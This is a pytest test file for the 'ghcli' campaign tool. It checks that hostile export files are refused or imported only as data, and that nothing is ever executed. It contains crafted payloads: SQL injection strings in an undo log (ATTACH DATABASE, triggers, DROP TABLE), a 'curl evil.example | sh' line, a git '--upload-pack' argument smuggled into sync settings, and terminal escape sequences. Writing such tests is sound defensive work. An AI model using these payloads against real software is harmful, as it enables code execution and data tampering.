"""Hostile ghcli exports (issue 29, nothing stored is ever executed): SQL in the undo data, ATTACH, triggers,
views, tables that are not the schema's, lying migrations, BLOBs where a count belongs, huge and NaN numbers,
huge text, escapes in names, sync settings. Each is refused (exit 2, one line, no file at the target) or
neutralised (imported as data, checked), with nothing written outside the campaign's own file, and `undo`,
`status` and `history` afterwards doing only what ghcli does."""

from __future__ import annotations

import copy
import json
import sqlite3
import time
from pathlib import Path

import pytest

from helpers import run_ok, snapshot

V1 = Path(__file__).parent / "journal_fixtures" / "ghcli-0.1-export.json"


def v1() -> dict:
    return json.loads(V1.read_text())


def _table(doc: dict, name: str) -> dict:
    return doc["tables"][name]


def _set(doc: dict, table: str, column: str, value, row: int = 0) -> dict:
    doc = copy.deepcopy(doc)
    t = _table(doc, table)
    t["rows"][row][1 + t["columns"].index(column)] = value
    return doc


def _with_sql_undo_log(tmp_path: Path) -> dict:
    """The attack of issue 29: SQL text in the undo log, run by the victim's next `undo` in ghcli 0.1."""
    doc = v1()
    outside = tmp_path / "outside"
    statements = [
        f"ATTACH DATABASE '{outside / 'written-by-import.sh'}' AS x",
        "CREATE TABLE x.t (line TEXT)",
        "INSERT INTO x.t VALUES ('curl evil.example | sh')",
        "CREATE TABLE stash (x)",
        "CREATE VIEW spy AS SELECT * FROM characters",
        "CREATE TRIGGER loop AFTER UPDATE ON characters BEGIN UPDATE characters SET gold = gold + 1; END",
        "DELETE FROM history WHERE id < 10",
        "UPDATE campaign SET name = 'pwned'",
    ]
    undo = _table(doc, "undo_log")
    last = max(r[1] for r in _table(doc, "history")["rows"])
    start = max((r[0] for r in undo["rows"]), default=0) + 1
    undo["rows"] += [[start + i, start + i, last, sql] for i, sql in enumerate(statements)]
    return doc


def _import(cli, tmp_path: Path, doc, *, raw: str | None = None):
    src = tmp_path / "in" / "file.json"
    src.parent.mkdir(exist_ok=True)
    src.write_text(raw if raw is not None else json.dumps(doc))
    target = tmp_path / "target" / "campaign.db"
    target.parent.mkdir(exist_ok=True)
    r = cli("--db", str(target), "import", str(src))
    return r, target


def _only_the_campaign(tmp_path: Path, target: Path) -> None:
    """Nothing written outside the campaign's own file (and its WAL companions)."""
    assert not (tmp_path / "outside").exists()
    assert sorted(p.name for p in (tmp_path / "in").iterdir()) == ["file.json"]
    assert {p.name for p in target.parent.iterdir()} <= {target.name, f"{target.name}-wal", f"{target.name}-shm"}


def test_sql_in_the_undo_log_is_never_run(cli, tmp_path):
    r, target = _import(cli, tmp_path, _with_sql_undo_log(tmp_path))
    assert r.exit_code == 0, r.output
    for args in (["undo"], ["status"], ["history"], ["character", "adjust", "Ann", "--gold", "+1"], ["undo"],
                 ["undo"], ["redo"]):
        r = cli("--db", str(target), *args)
        assert "Traceback" not in r.output and r.exit_code in (0, 1), (args, r.output)
    _only_the_campaign(tmp_path, target)
    con = sqlite3.connect(target)
    try:
        objects = {(t, n) for t, n in con.execute(
            "SELECT type, name FROM sqlite_master WHERE name NOT LIKE 'sqlite_%'")}
        assert not {n for _, n in objects} & {"stash", "spy", "loop", "undo_log", "history"}
        assert con.execute("SELECT name FROM campaign").fetchone()[0] == "Old"
        assert con.execute("PRAGMA database_list").fetchall()[1:] == []
        assert con.execute("SELECT count(*) FROM journal WHERE applied = 0").fetchone()[0] == 10  # history kept
    finally:
        con.close()


@pytest.mark.parametrize("make, words", [
    (lambda: {**v1(), "tables": {**v1()["tables"], "stash": {"columns": ["x"], "rowid": True, "rows": [[1, 1]]}}},
     "tables.'stash' is not a table of this campaign's schema"),
    (lambda: {**v1(), "tables": {**v1()["tables"], 'x"; DROP TABLE characters; --': {
        "columns": ["x"], "rowid": True, "rows": []}}}, "is not a table of this campaign's schema"),
    (lambda: {**v1(), "tables": {**v1()["tables"], "sqlite_master": {
        "columns": ["type", "name", "tbl_name", "rootpage", "sql"], "rowid": True,
        "rows": [[99, "trigger", "t", "characters", 0, "CREATE TRIGGER t ..."]]}}},
     "tables.'sqlite_master' is not a table of this campaign's schema"),
    (lambda: {**v1(), "migrations": ["0001_schema"]}, "tables.'solo_results' is not a table of this campaign's schema"),
    (lambda: {**v1(), "migrations": ["0001_schema", "0003_command_log"]}, "not in the order ghcli applies them"),
    (lambda: {**v1(), "migrations": ["0001_schema", "0002_solo_scenarios", "0003_command_log", "0077_x"]},
     "'0077_x' is unknown here: a newer ghcli wrote this file"),
    (lambda: _set(v1(), "characters", "gold", {"$blob": "00ff"}), "is not a whole number, text or null"),
    (lambda: _set(v1(), "characters", "xp", 4_611_686_018_427_387_904),
     "tables.characters.rows[0].xp: 461168... (19 digits) is out of the game's range (0 to 1000000000)"),
    (lambda: _set(v1(), "supply", "copies", 10**12), "tables.supply.rows[0].copies: 100000... (13 digits) is out of"),
    (lambda: _set(v1(), "characters", "level", 12), "tables.characters.rows[0].level: 12 is out of the game's range"),
    (lambda: _set(v1(), "characters", "gold", "lots"), "tables.characters.rows[0].gold: 'lots' is not a whole number"),
    (lambda: _set(v1(), "characters", "gold", 1.5), "is not a whole number, text or null"),
    (lambda: _set(v1(), "characters", "gold", True), "is not a whole number, text or null"),
    (lambda: _set(v1(), "characters", "name", None), "tables.characters.rows[0].name: empty"),
    (lambda: _set(v1(), "characters", "party_id", 77), "refers to a missing row of parties"),
])
def test_a_hostile_older_export_is_refused_and_leaves_nothing(cli, tmp_path, make, words):
    r, target = _import(cli, tmp_path, make())
    assert r.exit_code == 2, r.output
    assert r.stderr.startswith("error: ") and r.stderr.count("\n") == 1 and words in r.stderr, r.stderr
    assert not target.exists() and not list(target.parent.iterdir())
    _only_the_campaign(tmp_path, target)


@pytest.mark.parametrize("raw, words", [
    ('{"format": "ghcli-campaign", "version": 1, "tables": {"x": NaN}}', ""),
    ('{"format": "ghcli-campaign", "version": 1, "kind": "ghcli", "migrations": ["0001_schema"], '
     '"tables": {"campaign": {"columns": ["id"], "rowid": true, "rows": [[1, Infinity]]}}}', ""),
    ('{"format": "ghcli-campaign", "version": 2, "n": ' + "9" * 5000 + "}", ""),
])
def test_nan_infinity_and_huge_numbers_are_refused(cli, tmp_path, raw, words):
    r, target = _import(cli, tmp_path, None, raw=raw)
    assert r.exit_code == 2 and "Traceback" not in r.output, r.output
    assert r.stderr.startswith("error: ") and r.stderr.count("\n") == 1
    assert not target.exists()


def test_huge_text_and_escapes_are_cut_with_a_report_quickly(cli, tmp_path):
    doc = _set(v1(), "characters", "name", "Ann\x1b[2J\x1b]0;pwned\x07" + "n" * 1_000_000)
    doc = _set(doc, "campaign", "name", "Old\u202ename")
    t = time.perf_counter()
    src = tmp_path / "in" / "file.json"
    src.parent.mkdir()
    src.write_text(json.dumps(doc))
    target = tmp_path / "target.db"
    r = cli("--db", str(target), "import", str(src), "--json")
    assert r.exit_code == 0, r.output
    assert time.perf_counter() - t < 20  # not minutes (issue 29)
    report = json.loads(r.stdout)
    cut = {d["path"]: d["why"] for d in report["dropped"]}
    assert cut["characters[0].name"] == "control characters taken out; cut to 40 characters"
    assert "campaign[0].name" in cut
    names = [c["name"] for c in json.loads(cli("--db", str(target), "character", "list", "--json").stdout)]
    assert len(names[0]) == 40 and "\x1b" not in names[0] and names[0].startswith("Ann")
    assert json.loads(cli("--db", str(target), "status", "--json").stdout)["campaign"]["name"] == "Old name"


def test_an_exports_sync_settings_never_bind_the_new_campaign(cli, tmp_path):
    doc = v1()
    doc["tables"]["sync_state"] = {"columns": ["key", "value"], "rowid": True,
                                   "rows": [[1, "remote", "--upload-pack=touch /tmp/pwned"], [2, "campaign", "x"]]}
    r, target = _import(cli, tmp_path, doc)
    assert r.exit_code == 0, r.output
    con = sqlite3.connect(target)
    assert con.execute("SELECT count(*) FROM sync_state").fetchone()[0] == 0
    con.close()


# -- version 2 (this ghcli's exports): the entries are replayed, each checked --------------------


def _native(cli, tmp_path) -> dict:
    db = tmp_path / "src.db"
    run_ok(cli, "--db", str(db), "init", "--seed", "3")
    run_ok(cli, "--db", str(db), "character", "new", "Ann", "--class", "brute", "--quest", "512")
    run_ok(cli, "--db", str(db), "character", "adjust", "Ann", "--gold", "+5")
    return json.loads(cli("--db", str(db), "export").stdout)


def _entry(doc: dict, i: int) -> dict:
    return json.loads(doc["journal"]["entries"][i]["document"])


def _put(doc: dict, i: int, entry: dict) -> dict:
    from ghcli.journal.entries import canonical

    doc = copy.deepcopy(doc)
    doc["journal"]["entries"][i]["document"] = canonical(entry)
    return doc


@pytest.mark.parametrize("edit, words", [
    (lambda d: _put(d, 2, {**_entry(d, 2), "args": {**_entry(d, 2)["args"], "gold": 10**30}}),
     "argument gold: the number is too large"),
    (lambda d: _put(d, 2, {**_entry(d, 2), "args": {**_entry(d, 2)["args"], "gold": "1; DROP TABLE x"}}),
     "argument gold: must be a whole number"),
    (lambda d: _put(d, 2, {**_entry(d, 2), "command": "sql"}), "unknown command 'sql'"),
    (lambda d: _put(d, 1, {**_entry(d, 1), "args": {**_entry(d, 1)["args"], "name": "A\x1b[2Jnn"}}),
     "text too long or with control characters"),
    (lambda d: _put(d, 2, {**_entry(d, 2), "effect": "f" * 16}), "its row changes here"),
    (lambda d: {**d, "journal": {**d["journal"], "entries": d["journal"]["entries"][1:]}},
     "the first entry applied is character new, not one that creates a campaign"),
    (lambda d: {**d, "tables": {**d["tables"], "characters": {"columns": ["id"], "rows": [[1, {"$blob": "00"}]]}}},
     "tables: not the campaign's tables"),
    (lambda d: {**d, "migrated": {"0001_schema": "x", "9999_evil": "now"}}, "'9999_evil' is unknown here"),
])
def test_a_hostile_export_is_refused_and_leaves_nothing(cli, tmp_path, edit, words):
    r, target = _import(cli, tmp_path, edit(_native(cli, tmp_path)))
    assert r.exit_code == 2, r.output
    assert r.stderr.startswith("error: ") and r.stderr.count("\n") == 1 and words in r.stderr, r.stderr
    assert not target.exists()


def test_sql_in_a_name_is_a_name(cli, tmp_path):
    doc = _native(cli, tmp_path)
    db = tmp_path / "src.db"
    run_ok(cli, "--db", str(db), "party", "new", "x'); DROP TABLE characters;--")
    doc = json.loads(cli("--db", str(db), "export").stdout)
    r, target = _import(cli, tmp_path, doc)
    assert r.exit_code == 0, r.output
    parties = json.loads(cli("--db", str(target), "party", "list", "--json").stdout)
    assert [p["name"] for p in parties][-1] == "x'); DROP TABLE characters;--"
    assert json.loads(cli("--db", str(target), "character", "list", "--json").stdout)[0]["name"] == "Ann"


def test_a_refused_import_leaves_an_existing_target_untouched(cli, tmp_path):
    target = tmp_path / "target" / "campaign.db"
    target.parent.mkdir()
    run_ok(cli, "--db", str(target), "init")
    before = snapshot(target)
    src = tmp_path / "in" / "file.json"
    src.parent.mkdir()
    src.write_text(json.dumps(_with_sql_undo_log(tmp_path)))
    r = cli("--db", str(target), "import", str(src))
    assert r.exit_code == 1 and "already exists" in r.stderr
    assert snapshot(target) == before
